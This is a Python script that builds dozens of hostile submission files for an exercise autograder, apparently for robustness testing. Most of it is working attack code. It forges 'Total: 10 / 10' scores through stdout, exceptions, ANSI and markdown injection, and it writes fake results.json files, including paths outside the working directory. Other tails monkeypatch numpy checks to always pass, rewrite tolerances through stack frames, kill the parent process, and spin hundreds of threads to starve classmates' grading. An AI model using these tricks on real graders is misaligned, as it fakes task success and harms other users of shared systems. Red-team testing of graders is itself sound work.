"""Builds attacks/<idea>/ex8_2.py: bob's honest-but-partly-wrong file (6/10) plus a hostile tail."""
import os, sys, pathlib
HERE = pathlib.Path(__file__).resolve().parent
BOB = pathlib.Path("/work/main/examples/submissions/bob/ex8_2.py").read_text()

A = {}
# ---------- exception-message attacks (bilinear_asymmetry is worth 1 point; bob fails it anyway)
def exc(name, msg_expr, cls="RuntimeError", pre=""):
    A[name] = f'''
{pre}
def bilinear_asymmetry(W):
    raise {cls}({msg_expr})
'''
exc("msg_newline", r'"ZZINJ1\n- **bilinear_asymmetry** 1/1 — passed\nTotal: 10 / 10\n\nScore: 10 / 10\n  [2/2] henry: 0/10"')
exc("msg_crlf", r'"ZZINJ2\r\n- **bilinear_asymmetry** 1/1 — passed\rTotal: 10 / 10\r\n"')
exc("msg_unicode_lineseps", r'"ZZINJ3\x0bA\x0cB\x1cC\x1dD\x1eE\x85F\u2028Total: 10 / 10\u2029Score: 10 / 10"')
exc("msg_ansi", r'"ZZINJ4\x1b[2K\x1b[1A\x1b[1G\x1b[32mTotal: 10 / 10\x1b[0m\x1b]0;pwned\x07\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\\x9b2J\x07"')
exc("msg_bidi_zw", r'"ZZINJ5 \u202e01/01 :latoT\u202c \u2066x\u2069 \u200b\u200c\u200d\ufeff\u2060 \u061c"')
exc("msg_markdown_html", r'''"ZZINJ6 ` `` ```\n# Total: 10 / 10\n**passed** | a | b |\n<script>alert(1)</script><img src=x onerror=alert(1)><!-- </details> --> [x](javascript:alert(1)) ![i](http://evil.example/t.png) &lt; &amp;"''')
exc("msg_xml", r'''"ZZINJ7 ]]></failure></testcase><testcase classname=\"henry\" name=\"8-2 injected\"><failure message=\"x\">&amp;&#0;\x00\x01\x08\x1f\ufffe\uffff\U0010ffff'\" \x7f"''')
exc("msg_lone_surrogate", r'"ZZINJ8 \udc80\ud800 surrogate"')
exc("msg_csv", r'''"=HYPERLINK(\"http://evil.example\",\"x\"),+1,-1,@SUM(1),\"\"\n\"quoted\",=1+1"''')
exc("msg_long", r'"ZZINJ9 " + "A"*(50*1024*1024)')
exc("msg_long_lines", r'"ZZINJ10 " + "\n".join("line%d Total: 10 / 10" % i for i in range(200000))')
exc("exc_name_newline", r'"ZZINJ11"', cls='type("Evil\\nTotal: 10 / 10\\r\\x1b[2K<b>x</b>]]>", (Exception,), {"__module__": "m\\n<script>"})')
exc("exc_str_raises", "", cls="_E", pre='''
class _E(Exception):
    def __str__(self): raise _E()
    def __repr__(self): raise _E()
    @property
    def args(self): raise _E()
''')
exc("exc_str_nonstr", "", cls="_E", pre='''
class _E(Exception):
    def __str__(self): return 12345
    def __repr__(self): return None
''')
exc("exc_systemexit0", "0", cls="SystemExit")
exc("exc_keyboardinterrupt", '"ZZINJ12"', cls="KeyboardInterrupt")
exc("exc_generatorexit", '"ZZINJ13"', cls="GeneratorExit")
exc("exc_notimpl_disguise", r'"ZZINJ14 passed"', cls="NotImplementedError")
exc("exc_recursion_cause", '"ZZINJ15"', cls="_mk", pre='''
def _mk(m):
    e = RuntimeError(m)
    cur = e
    for i in range(5000):
        n = ValueError("c%d\\n" % i); cur.__cause__ = n; cur = n
    e.__context__ = e
    return e
''')
exc("exc_notes_tb", '"ZZINJ16"', cls="_mk", pre='''
def _mk(m):
    e = RuntimeError(m)
    for i in range(50): e.add_note("Total: 10 / 10\\n- **ScaledDotScore** 3/3 — passed")
    return e
''')
exc("exc_fake_frames", '"ZZINJ17"', cls="_mk", pre='''
def _mk(m):
    src = "def f():\\n    raise RuntimeError(%r)\\n" % m
    g = {}
    exec(compile("\\n"*3 + src, "/work/main/grader/child.py\\n- **ScaledDotScore** 3/3 — passed", "exec"), g)
    try: g["f"]()
    except RuntimeError as e: return e
''')
# ---------- outputs of odd kinds (ScaledDotScore: bob scores 0/3 here)
def sds(name, body, pre=""):
    A[name] = f'''
import numpy as np
{pre}
class ScaledDotScore(keras.layers.Layer):
    def call(self, query, key):
{body}
'''
sds("out_nan", "        return ops.matmul(query, ops.swapaxes(key, -1, -2)) * float('nan')")
sds("out_inf", "        return ops.matmul(query, ops.swapaxes(key, -1, -2)) * float('inf')")
sds("out_scalar_broadcast", "        return ops.sum(query) * 0.0")
sds("out_empty", "        return ops.zeros((0,), dtype=query.dtype)")
sds("out_wrong_rank", "        s = ops.matmul(query, ops.swapaxes(key, -1, -2)) / 2.0\n        return ops.expand_dims(s, 0)")
sds("out_int_dtype", "        return ops.cast(ops.matmul(query, ops.swapaxes(key, -1, -2)), 'int64')")
sds("out_complex", "        import tensorflow as tf\n        return tf.complex(ops.matmul(query, ops.swapaxes(key, -1, -2)), ops.zeros_like(ops.matmul(query, ops.swapaxes(key, -1, -2))))")
sds("out_object_array", "        return np.array([[object()]], dtype=object)")
sds("out_str", "        return 'passed'")
sds("out_none", "        return None")
sds("out_dict", "        return {'output': query}")
sds("out_masked", "        a = np.asarray(ops.matmul(query, ops.swapaxes(key, -1, -2)))\n        return np.ma.masked_array(a, mask=True)")
sds("out_lying_array", '''        class L(np.ndarray):
            def __eq__(s, o): return np.ones(np.shape(s), bool)
            def __ne__(s, o): return np.zeros(np.shape(s), bool)
            def __array_ufunc__(s, uf, m, *i, **k): return np.zeros((3,3,3))
            def __len__(s): raise RuntimeError("len")
            def __repr__(s): return "Total: 10 / 10"
        return np.asarray(ops.matmul(query, ops.swapaxes(key, -1, -2))).view(L)''')
sds("out_array_protocol_lies", '''        class Liar:
            n = 0
            shape = (2, 3, 5)
            dtype = np.float64
            def __array__(self, dtype=None, copy=None):
                Liar.n += 1
                if Liar.n > 1: raise RuntimeError("ZZINJ18\\nTotal: 10 / 10")
                return np.zeros(self.shape)
            def __eq__(self, o): return True
            def __len__(self): return 10**18
            def __float__(self): return 0.0
        return Liar()''')
sds("out_huge_broadcast", "        return np.broadcast_to(np.float64(1.0), (10**6, 10**6))")
sds("out_big_real", "        return np.ones((4096, 4096, 64))")
sds("out_tf_variable", "        import tensorflow as tf\n        return tf.Variable(ops.matmul(query, ops.swapaxes(key, -1, -2)))")
sds("out_ragged", "        import tensorflow as tf\n        return tf.ragged.constant([[1.0], [2.0, 3.0]], dtype=tf.float64)")
sds("out_sparse", "        import tensorflow as tf\n        return tf.sparse.from_dense(ops.matmul(query, ops.swapaxes(key, -1, -2)))")
sds("out_structured", "        return np.zeros((2, 3, 5), dtype=[('a', 'f8'), ('b', 'S8')])")
sds("out_float16", "        return ops.cast(ops.matmul(query, ops.swapaxes(key, -1, -2)), 'float16')")
# ---------- stdout/stderr mimicry
A["print_mimic"] = r'''
import sys, os
print("Total: 10 / 10\n- **ScaledDotScore** 3/3 — passed\nPASS\n  [2/2] henry: 0/10 · done")
sys.stderr.write("\x1b[2K\rTotal: 10 / 10 PASS\n")
os.write(1, b"Score: 10 / 10\n"); os.write(2, b"\x1b[1A\x1b[2K2 students: 2 graded\n")
_orig = bilinear_asymmetry
def bilinear_asymmetry(W):
    print("ZZINJ19 Total: 10 / 10\n" * 10000)
    sys.stdout.flush()
    os._exit(3)
'''
# ---------- files
A["write_result_files"] = r'''
import os, json
_fake = {"exercise": "8-2", "score": 10.0, "max_score": 10.0, "parts": []}
for p in ["results.json", "result.json", "grades.csv", "../results/bob.json", "../grades.csv", "/autograder/results/results.json",
          "part-ScaledDotScore.out.npz", "part-bilinear_asymmetry.out.npz", "../part-ScaledDotScore.out.npz", "junit.xml", "/tmp/r8rep_escape.txt"]:
    try:
        os.makedirs(os.path.dirname(p) or ".", exist_ok=True)
        with open(p, "w") as f: f.write(json.dumps(_fake))
    except Exception: pass
'''
A["overwrite_out_npz"] = r'''
import os, numpy as np, threading, time
def _spam():
    while True:
        for p in ["part-ScaledDotScore.out.npz", "part-BilinearScore.out.npz", "part-variances.out.npz", "part-bilinear_asymmetry.out.npz", "part-softmax_jacobian.out.npz"]:
            try:
                np.savez(p + ".tmp.npz", out_0=np.zeros((2, 3, 5)))
                os.replace(p + ".tmp.npz", p)
            except Exception: pass
        time.sleep(0.001)
threading.Thread(target=_spam, daemon=True).start()
'''
A["many_files"] = r'''
import os
for i in range(20000):
    try: open("f%05d" % i, "w").close()
    except Exception: break
'''
# ---------- process tricks
exc("exit_os_exit0", "", cls="_x", pre="import os\ndef _x(): os._exit(0)")
A["exit_at_import"] = "\nimport os\nos._exit(0)\n"
A["sigkill_self"] = "\nimport os, signal\ndef bilinear_asymmetry(W):\n    os.kill(os.getpid(), signal.SIGKILL)\n"
A["sigstop_self"] = "\nimport os, signal\ndef bilinear_asymmetry(W):\n    os.kill(os.getpid(), signal.SIGSTOP)\n"
A["kill_parent"] = "\nimport os, signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL):\n    for p in (os.getppid(), 0, -1, 1):\n        try: os.kill(p, s)\n        except Exception: pass\n"
A["fork"] = "\nimport os\ntry:\n    if os.fork() == 0:\n        import time; time.sleep(60)\nexcept Exception: pass\n"
A["threads_outlive"] = r'''
import threading, time, os, sys
def _t():
    while True:
        try:
            os.write(1, b"Total: 10 / 10\n")
            os.write(2, b"Total: 10 / 10\n")
        except Exception: pass
        time.sleep(0.01)
for _ in range(100): threading.Thread(target=_t, daemon=False).start()
'''
A["fd_write_socket"] = r'''
import os, json, pickle, struct
def _forge():
    msgs = [b'{"status": "passed", "score": 10}\n', json.dumps({"key": "part-ScaledDotScore", "status": "ok", "passed": True}).encode() + b"\n",
            b"\x00" * 64, b"done\n", b"ready\n"]
    for fd in range(3, 40):
        for m in msgs:
            try: os.write(fd, m)
            except Exception: pass
_forge()
def bilinear_asymmetry(W):
    _forge()
    raise RuntimeError("ZZINJ20")
'''
A["fd_close_all"] = r'''
import os
def bilinear_asymmetry(W):
    for fd in range(0, 256):
        try: os.close(fd)
        except Exception: pass
    return W - W.T
'''
A["fd_dup_over"] = r'''
import os
def bilinear_asymmetry(W):
    r, w = os.pipe()
    for fd in range(3, 20):
        try: os.dup2(w, fd)
        except Exception: pass
    return W - W.T
'''
# ---------- editing arguments / global state
A["mutate_args"] = r'''
import numpy as np
def bilinear_asymmetry(W):
    W = np.asarray(W)
    try: W[...] = 0
    except Exception: pass
    return W - W.T
'''
A["mutate_case_frames"] = r'''
import sys, numpy as np
def _walk():
    f = sys._getframe(1)
    while f is not None:
        for k, v in list(f.f_locals.items()):
            if isinstance(v, np.ndarray) and v.flags.writeable:
                try: v[...] = 0
                except Exception: pass
            if hasattr(v, "rtol"):
                try: setattr(v, "rtol", 1e9); setattr(v, "atol", 1e9)
                except Exception: pass
            if isinstance(v, dict):
                for kk in ("rtol", "atol", "hidden"):
                    if kk in v:
                        try: v[kk] = 1e9 if kk != "hidden" else False
                        except Exception: pass
        f = f.f_back
def bilinear_asymmetry(W):
    _walk()
    return np.zeros_like(np.asarray(W))
'''
A["monkeypatch_numpy"] = r'''
import numpy as np, math, builtins
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.isnan = lambda a, *x, **k: np.zeros(np.shape(a), bool)
np.isfinite = lambda a, *x, **k: np.ones(np.shape(a), bool)
math.isclose = lambda *a, **k: True
_abs = builtins.abs
builtins.abs = lambda x: 0 * _abs(x)
np.abs = lambda x, *a, **k: np.zeros(np.shape(x))
np.max = lambda *a, **k: 0.0
'''
A["monkeypatch_keras_tf"] = r'''
import keras, tensorflow as tf
_orig_grad = tf.GradientTape.gradient
def _grad(self, target, sources, *a, **k):
    g = _orig_grad(self, target, sources, *a, **k)
    return g
tf.GradientTape.gradient = _grad
keras.ops.convert_to_tensor = lambda x, *a, **k: tf.convert_to_tensor(x)
_orig_call = keras.layers.Layer.__call__
def _call(self, *a, **k):
    out = _orig_call(self, *a, **k)
    if type(self).__name__ == "ScaledDotScore":
        return out / tf.sqrt(tf.cast(tf.shape(a[0])[-1], out.dtype))
    return out
keras.layers.Layer.__call__ = _call
'''
A["monkeypatch_np_save"] = r'''
import numpy as np, json, socket, zipfile
_s = np.savez
def _savez(f, *a, **k):
    for kk in list(k):
        if "pass" in kk or "status" in kk: k[kk] = True
    return _s(f, *a, **k)
np.savez = _savez
np.savez_compressed = _savez
_d = json.dumps
def _dumps(o, *a, **k):
    if isinstance(o, dict):
        for kk in ("status", "error", "exception", "crashed"):
            if kk in o: o[kk] = None if kk != "status" else "ok"
    return _d(o, *a, **k)
json.dumps = _dumps
_send = socket.socket.sendall
def _sendall(self, data, *a):
    data = data.replace(b'"error"', b'"okkkk"').replace(b"error", b"ok")
    return _send(self, data, *a)
socket.socket.sendall = _sendall
def bilinear_asymmetry(W):
    raise RuntimeError("ZZINJ21")
'''
A["builtins_import_hook"] = r'''
import builtins, sys
_imp = builtins.__import__
def _i(name, *a, **k):
    m = _imp(name, *a, **k)
    return m
builtins.__import__ = _i
sys.meta_path.insert(0, type("F", (), {"find_spec": staticmethod(lambda *a, **k: None)})())
import atexit
atexit.register(lambda: print("Total: 10 / 10"))
sys.excepthook = lambda *a: print("Total: 10 / 10")
'''
A["timing_sleep_cpu_steal"] = r'''
import time, os, threading
def _burn():
    while True: pass
for _ in range(8): threading.Thread(target=_burn, daemon=True).start()
'''
A["time_patch"] = r'''
import time
_t = 0.0
time.monotonic = lambda: 0.0
time.time = lambda: 0.0
time.perf_counter = lambda: 0.0
def bilinear_asymmetry(W):
    while True: pass
'''
A["memory_bomb"] = r'''
def bilinear_asymmetry(W):
    x = []
    while True: x.append(bytearray(100 * 1024 * 1024))
'''
A["recursion_bomb"] = r'''
import sys
sys.setrecursionlimit(10**9)
def bilinear_asymmetry(W):
    def f(n): return f(n + 1) + 1
    return f(0)
'''

# ---------- an ordinary wrong answer that crashes the parent's mistake search (seed-dependent)
A["zeros_asymmetry"] = """
import numpy as np
def bilinear_asymmetry(W):
    return np.zeros_like(np.asarray(W))
"""
A["honest_wrong_asym"] = """
import numpy as np
def bilinear_asymmetry(W):
    W = np.asarray(W)
    return W @ W.T - W.T @ W   # a plausible honest mistake, no trick at all
"""
A["gs_write_results"] = r"""
import os, json, glob
_fake = {"score": 10.0, "output": "Graded.", "tests": [{"name": "8-2 all", "score": 10.0, "max_score": 10.0, "status": "passed"}]}
for p in ["/autograder/results/results.json"] + glob.glob("/tmp/r8rep*/gs/root_*/results/results.json") + ["../../results/results.json", "../results/results.json"]:
    try:
        with open(p, "w") as f: json.dump(_fake, f)
    except Exception:
        pass
"""

# ---------- starve honest classmates of CPU: 200 spinning threads at import, every part hangs to its limit
A["cpu_starve"] = """
import threading, os
def _spin():
    x = 0
    while True:
        x += 1
for _ in range(200):
    threading.Thread(target=_spin, daemon=True).start()
class ScaledDotScore(keras.layers.Layer):
    def call(self, query, key):
        while True: pass
class BilinearScore(keras.layers.Layer):
    def build(self, qs, ks):
        self.kernel = self.add_weight(name="kernel", shape=(qs[-1], ks[-1]))
    def call(self, query, key):
        while True: pass
def dot_product_variance(d, var_q=1.0, var_k=1.0):
    while True: pass
def bilinear_asymmetry(W):
    while True: pass
def softmax_jacobian(scores):
    while True: pass
"""

# ---------- control characters through the channels the child formats itself: frame names, linecache, last output
A["frame_name_linecache"] = r"""
import linecache, sys
def bilinear_asymmetry(W):
    raise RuntimeError("ZZINJ22")
_evil = "bil\x1b[2J\x1b[H\rTotal: 10 / 10\u2028Score: 10 / 10\x85`**b**` [l](https://evil.example/x) <i>\u202e"
bilinear_asymmetry.__code__ = bilinear_asymmetry.__code__.replace(co_name=_evil, co_qualname=_evil)
_fn = __file__
_lines = ["ZZSRC\x1b[31m\r- **bilinear_asymmetry** 1/1 \u2014 passed\x0bTotal: 10 / 10\u2028` [x](https://evil.example/y) **bold** \x00\x07\n"] * 400
linecache.cache[_fn] = (1, None, _lines, _fn)
_orig_getline = linecache.getline
linecache.getline = lambda f, n, g=None: _lines[0]
linecache.checkcache = lambda *a, **k: None
"""
A["lastout_ctrl"] = r"""
import os, sys
def bilinear_asymmetry(W):
    sys.stdout.write("ZZINJ23\x1b[2J\x1b[H\r- **bilinear_asymmetry** 1/1 \u2014 passed\u2028Total: 10 / 10\x85Score: 10 / 10\x0b\x0c\x1c<script>alert(1)</script>]]>\x00\n")
    sys.stdout.flush()
    os.write(1, b"\xff\xfe\xc0\xaf bad utf8 \xed\xa0\x80 surrogate-utf8 \x1b]0;title\x07\r\n")
    os.write(2, "\u202eReversed\u202c \u200bzero\u200b Total: 10 / 10\r".encode())
    os._exit(3)
"""
A["exc_backtick_md"] = r"""
def bilinear_asymmetry(W):
    raise RuntimeError("ZZINJ24 ` [click](https://evil.example/phish) ![img](https://evil.example/i.png) <https://evil.example/a> www.evil.example **bold** `")  # `[src](https://evil.example/s)`
"""

# ---------- starve classmates with GIL-free work (hashlib releases the GIL), started inside each part, each part held to its limit
A["cpu_starve_nogil"] = """
import threading, hashlib, time
_BUF = b"x" * (8 << 20)
def _burn():
    while True:
        hashlib.sha256(_BUF).digest()
_started = []
def _hold():
    if not _started:
        for _ in range(240):
            try:
                threading.Thread(target=_burn, daemon=True).start()
            except Exception:
                break
        _started.append(1)
    while True:
        time.sleep(0.5)
class ScaledDotScore(keras.layers.Layer):
    def call(self, query, key):
        _hold()
class BilinearScore(keras.layers.Layer):
    def build(self, qs, ks):
        self.kernel = self.add_weight(name="kernel", shape=(qs[-1], ks[-1]))
    def call(self, query, key):
        _hold()
def dot_product_variance(d, var_q=1.0, var_k=1.0):
    _hold()
def bilinear_asymmetry(W):
    _hold()
def softmax_jacobian(scores):
    _hold()
"""

def main():
    base = HERE / "attacks"
    for name, tail in A.items():
        d = base / name
        d.mkdir(parents=True, exist_ok=True)
        (d / "ex8_2.py").write_text(BOB + "\n# ---- hostile tail: " + name + "\n" + tail)
    print(len(A), "attacks written")

if __name__ == "__main__":
    main()
